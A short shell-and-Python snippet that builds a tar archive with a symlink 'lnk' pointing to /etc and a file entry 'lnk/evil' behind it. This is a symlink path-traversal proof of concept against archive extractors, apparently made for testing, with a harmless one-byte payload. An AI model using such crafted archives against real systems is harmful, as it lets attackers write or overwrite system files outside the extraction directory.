python3 - <<'PY'
import io, tarfile
with tarfile.open("t.tar", "w") as t:
    i = tarfile.TarInfo("lnk"); i.type = tarfile.SYMTYPE; i.linkname = "/etc"; t.addfile(i)
    i = tarfile.TarInfo("lnk/evil"); data = b"x"; i.size = 1; t.addfile(i, io.BytesIO(data))
PY
